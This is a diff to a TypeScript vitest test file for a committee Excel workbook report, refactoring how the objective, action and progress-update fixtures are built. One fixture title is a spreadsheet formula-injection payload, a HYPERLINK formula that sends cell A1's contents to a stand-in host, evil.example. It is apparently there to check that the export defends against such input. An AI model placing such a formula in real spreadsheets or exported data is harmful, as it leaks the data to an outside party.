@@ -3,21 +3,22 @@ import { beforeAll, describe, expect, it } from "vitest";
 import { changesSince } from "../../../src/plan/changes";
 import type { Action, Objective, ProgressUpdate, Rag } from "../../../src/plan/types";
 import { committeeWorkbook, RAG_COLOURS } from "../../../src/reports/committee-xlsx";
+import { action as anAction, objective as anObjective, update as anUpdate } from "../../support/plan-fixtures";
 
 const amara = { id: 7, title: "Amara Okafor", email: "amara.okafor@wres.test" };
 const tom = { id: 8, title: "Tom Hughes", email: "tom.hughes@wres.test" };
 const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
 
 function objective(id: number, number: string, title: string, extra: Partial<Objective> = {}): Objective {
-  return { id, etag: '"1"', title, planYear: "2024/25", number, description: null, owner: amara, sponsor: null, indicators: [1], highImpactActions: [], ragOverride: null, ragOverrideReason: null, modified: "2024-10-01T00:00:00Z", ...extra };
+  return anObjective({ id, title, number, owner: amara, modified: "2024-10-01T00:00:00Z", ...extra });
 }
 
 function action(id: number, objectiveId: number, number: string, title: string, rag: Rag, extra: Partial<Action> = {}): Action {
-  return { id, etag: '"1"', objectiveId, number, title, leads: [tom], leadText: null, dueDate: "2025-03-31", milestones: null, progress: null, kpis: null, outcomes: null, indicators: [], rag, modified: "2024-10-01T00:00:00Z", ...extra };
+  return anAction({ id, objectiveId, number, title, leads: [tom], leadText: null, rag, modified: "2024-10-01T00:00:00Z", ...extra });
 }
 
 function update(id: number, actionId: number, date: string, previousRag: Rag | null, rag: Rag | null, note: string | null): ProgressUpdate {
-  return { id, actionId, author: tom, date, rag, previousRag, note, progress: null, kind: "update" };
+  return anUpdate(actionId, date, previousRag, rag, { id, author: tom, note });
 }
 
 const objectives = [objective(1, "1", "Representation at senior levels"), objective(2, "2", HOSTILE, { owner: null }), objective(3, "3", "Not begun")];
